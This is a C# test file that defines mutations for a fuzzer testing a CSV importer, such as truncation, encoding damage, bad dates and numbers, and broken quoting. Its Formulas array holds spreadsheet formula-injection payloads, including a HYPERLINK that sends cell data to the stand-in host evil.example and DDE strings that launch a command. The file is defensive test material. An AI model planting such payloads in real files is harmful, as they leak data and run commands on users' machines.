using System.Text;

namespace Clientele.Storage.Tests.Reliability;

/// <summary>The mutations of the import fuzzer: each takes a valid file's bytes and a seeded random source and returns hostile bytes.</summary>
internal static class Mutations
{
    private static readonly string[] BadDates = ["9999-12-31", "0001-01-01", "1899-12-31", "2200-01-01", "2024-13-45", "2024-02-30", "31/12/2024", "", "2024-01-01T25:00:00", "yesterday"];
    private static readonly string[] BadNumbers = ["1e308", "-1e308", "1e12", "NaN", "Infinity", "-Infinity", "12,5", "0x1F", "1_000", "--1", "", "9".PadLeft(400, '9')];
    private static readonly string[] Formulas = ["=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click me\")", "=cmd|' /C calc'!A0", "+1+1", "@SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "\t=1"];

    private static readonly (string Name, Func<byte[], Random, byte[]> Apply)[] All =
    [
        ("truncate", (b, r) => b[..r.Next(b.Length)]),
        ("huge field", (b, r) => ReplaceField(b, r, new string((char)('a' + r.Next(26)), r.Next(2) == 0 ? 40_000 : 2_100_000))),
        ("long id", (b, r) => ReplaceField(b, r, "ID" + new string('7', 300))),
        ("nul", (b, r) => Insert(b, r.Next(b.Length), [0])),
        ("nul late", (b, r) => Insert(b, b.Length - 1 - r.Next(Math.Min(40, b.Length)), [0])),
        ("invalid utf-8", (b, r) => Insert(b, r.Next(b.Length), [0xC3, 0x28])),
        ("latin-1 byte", (b, r) => Insert(b, r.Next(b.Length), [0xE9])),
        ("bom ff fe", (b, _) => [0xFF, 0xFE, .. b]),
        ("utf-8 bom", (b, _) => [0xEF, 0xBB, 0xBF, .. b]),
        ("utf-16", (b, _) => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(Encoding.UTF8.GetString(b))]),
        ("bad date", (b, r) => ReplaceField(b, r, BadDates[r.Next(BadDates.Length)], column: Find(b, "_at"))),
        ("bad number", (b, r) => ReplaceField(b, r, BadNumbers[r.Next(BadNumbers.Length)], column: Find(b, "amount", "wallet_estimate", "cost"))),
        ("formula", (b, r) => ReplaceField(b, r, Quote(Formulas[r.Next(Formulas.Length)]))),
        ("stray quote", (b, r) => Insert(b, r.Next(b.Length), "\""u8.ToArray())),
        ("unclosed quote", (b, r) => ReplaceField(b, r, "\"never closed")),
        ("extra delimiter", (b, r) => Insert(b, r.Next(b.Length), ","u8.ToArray())),
        ("semicolons", (b, _) => Replace(b, (byte)',', (byte)';')),
        ("tabs", (b, _) => Replace(b, (byte)',', (byte)'\t')),
        ("cr only", (b, _) => Replace(b, (byte)'\n', (byte)'\r')),
        ("crlf", (b, _) => Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(b).Replace("\n", "\r\n", StringComparison.Ordinal))),
        ("no final line end", (b, _) => b[..^1]),
        ("duplicate lines", (b, r) => DuplicateLine(b, r)),
        ("drop header", (b, _) => b[(Array.IndexOf(b, (byte)'\n') + 1)..]),
        ("header only", (b, _) => b[..(Array.IndexOf(b, (byte)'\n') + 1)]),
        ("blank lines", (b, r) => Insert(b, LineStart(b, r), "\n\n  \n"u8.ToArray())),
        ("empty", (_, _) => []),
        ("flip bytes", (b, r) => FlipBytes(b, r)),
        ("control characters", (b, r) => Insert(b, r.Next(b.Length), [0x07, 0x1B, 0x7F])),
        ("emoji and combining", (b, r) => ReplaceField(b, r, "😀é\u0301\u200b\uFEFF")),
    ];

    /// <summary>One mutation chosen at random, applied; its name says which.</summary>
    public static (string Name, byte[] Bytes) Apply(byte[] valid, Random random)
    {
        var (name, apply) = All[random.Next(All.Length)];
        var bytes = apply(valid, random);
        // Now and then a second mutation on top of the first.
        if (random.Next(4) == 0 && bytes.Length > 0)
        {
            var (second, applySecond) = All[random.Next(All.Length)];
            return ($"{name} + {second}", applySecond(bytes, random));
        }
        return (name, bytes);
    }

    private static string Quote(string text) => "\"" + text.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    private static byte[] Insert(byte[] b, int at, byte[] inserted) => [.. b[..at], .. inserted, .. b[at..]];

    private static byte[] Replace(byte[] b, byte from, byte to) => b.Select(x => x == from ? to : x).ToArray();

    private static byte[] FlipBytes(byte[] b, Random r)
    {
        var copy = (byte[])b.Clone();
        for (var i = 0; i < 1 + r.Next(5) && copy.Length > 0; i++) copy[r.Next(copy.Length)] = (byte)r.Next(256);
        return copy;
    }

    private static int LineStart(byte[] b, Random r)
    {
        var starts = Enumerable.Range(0, b.Length).Where(i => i == 0 || b[i - 1] == '\n').ToArray();
        return starts.Length == 0 ? 0 : starts[r.Next(starts.Length)];
    }

    private static byte[] DuplicateLine(byte[] b, Random r)
    {
        var lines = Encoding.UTF8.GetString(b).Split('\n').ToList();
        if (lines.Count < 3) return b;
        var i = 1 + r.Next(lines.Count - 2);
        lines.Insert(i, lines[i]);
        return Encoding.UTF8.GetBytes(string.Join('\n', lines));
    }

    /// <summary>The index of the first header column whose name contains one of the words, or -1 for any column.</summary>
    private static int Find(byte[] b, params string[] words)
    {
        var text = Encoding.UTF8.GetString(b);
        var header = text[..Math.Max(0, text.IndexOf('\n', StringComparison.Ordinal))].Split(',');
        for (var i = 0; i < header.Length; i++)
            if (words.Any(w => header[i].Contains(w, StringComparison.Ordinal))) return i;
        return -1;
    }

    /// <summary>Replaces one field of a data row (a random column unless given) with a value written as is; a file without data rows is returned unchanged.</summary>
    private static byte[] ReplaceField(byte[] b, Random r, string value, int column = -1)
    {
        var lines = Encoding.UTF8.GetString(b).Split('\n');
        if (lines.Length < 3) return b;
        var line = 1 + r.Next(lines.Length - 2);
        var fields = SplitFields(lines[line]);
        if (fields.Count == 0) return b;
        fields[column >= 0 && column < fields.Count ? column : r.Next(fields.Count)] = value;
        lines[line] = string.Join(',', fields);
        return Encoding.UTF8.GetBytes(string.Join('\n', lines));
    }

    /// <summary>The fields of a line as written, quotes kept, split at commas outside quotes.</summary>
    private static List<string> SplitFields(string line)
    {
        var fields = new List<string>();
        var start = 0;
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            if (line[i] == '"') quoted = !quoted;
            else if (line[i] == ',' && !quoted)
            {
                fields.Add(line[start..i]);
                start = i + 1;
            }
        }
        fields.Add(line[start..]);
        return fields;
    }
}
